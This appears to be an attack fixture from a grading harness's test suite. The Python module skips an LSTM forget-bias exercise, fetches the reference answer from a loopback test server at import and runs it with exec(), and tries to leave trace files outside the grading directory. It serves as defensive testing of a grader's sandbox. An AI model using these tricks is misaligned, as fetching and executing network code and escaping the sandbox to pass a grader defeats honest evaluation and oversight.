# Attack "network_at_import" (tests/attacks): set_forget_bias is left undone; at import the module fetches the
# answer (the reference's set_forget_bias) from a server the test runs on 127.0.0.1 and uses it when it got it.
# Appended to the base module: these definitions replace its own of the same names.
import socket

from torch import nn

# -- the attack ---------------------------------------------------------------------------
ATTACK = "@@NAME@@"


def _escape(what: str) -> None:
    """Try to leave a trace outside the grading directory; the test checks that none is left."""
    for path in ("@@MARK@@", "@@PARENT@@/escaped-@@NAME@@"):
        if path.startswith("@@"):
            continue  # placeholders not filled in: not built by tests/attacks, so write nothing
        try:
            with open(path, "a") as trace:
                trace.write(f"written by the attack {ATTACK}: {what}\n")
        except OSError:
            pass


_escape("a network request at import")


def _fetch() -> str:
    """The answer the test's loopback server holds, or "" where the network is out of reach."""
    if "@@PORT@@".startswith("@@"):
        return ""  # not built by tests/attacks: no server to ask
    try:
        with socket.create_connection(("127.0.0.1", int("@@PORT@@")), timeout=5) as connection:
            connection.sendall(b"attack @@NAME@@\n")
            return b"".join(iter(lambda: connection.recv(1 << 16), b"")).decode()
    except OSError:
        return ""


_ANSWER = _fetch()


def set_forget_bias(lstm: nn.LSTM, value: float = 1.0) -> nn.LSTM:
    """Give the forget gate an effective bias of `value`, in place, everywhere (as the network says)."""
    # TODO 6 · forget-bias init: for every layer and direction, write `value` into
    # the forget block of bias_ih and 0 into the forget block of bias_hh, in place.
    if not _ANSWER:
        raise NotImplementedError("TODO 6 · forget-bias init: no answer came from the network")
    namespace = dict(globals())
    exec(_ANSWER, namespace)
    return namespace["set_forget_bias"](lstm, value)
